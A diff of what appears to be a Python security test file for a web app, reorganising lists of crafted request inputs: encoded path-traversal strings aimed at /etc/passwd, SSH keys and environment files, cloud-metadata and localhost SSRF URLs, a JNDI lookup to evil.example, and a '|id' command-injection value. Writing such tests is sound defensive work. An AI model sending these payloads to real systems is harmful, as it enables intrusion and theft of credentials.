@@ -85,18 +85,14 @@ def test_no_made_up_request_brings_the_server_to_fail_or_hang(app: App) -> None:
 
 UPWARDS = ["../", "..%2f", "%2e%2e/", "%252e%252e%252f", "..%c0%af", "..\\", "..%5c", "....//", "..;/", "/", "//", "%00/"]
 TARGETS = ["etc/passwd", "proc/self/environ", "model.safetensors", "windows/win.ini", "app.py"]
-TRAVERSALS = [
-    template.format(up * 3 + target)
-    for template in ("/{}", "/static/{}", "/examples/{}", "/docs/{}", "/predict?file={}")
-    for up in UPWARDS
-    for target in TARGETS
-]
 NAMED = [
     *(f"{up}{target}" for up in ("/", "../../") for target in TARGETS),
+    "../model.safetensors",
     "C:\\boot.ini",
     "\\\\evil.example\\share",
     "~/.ssh/id_rsa",
     "file:///etc/passwd",
+    "http://169.254.169.254/",
     "http://169.254.169.254/latest/meta-data/",
     "http://127.0.0.1:22/",
     "http://[::1]/",
@@ -113,6 +109,11 @@ NAMED = [
     "builtins.exec",
     "${jndi:ldap://evil.example/}",
     "|id",
+]
+TRAVERSALS = [
+    template.format(path)
+    for template in ("/{}", "/static/{}", "/examples/{}", "/docs/{}", "/predict?file={}")
+    for path in (*(up * 3 + target for up in UPWARDS for target in TARGETS), *NAMED)
 ]
 JSON = {"content-type": "application/json"}
 HEADERS = ["referer", "x-forwarded-host", "x-original-url", "x-rewrite-url", "content-location"]
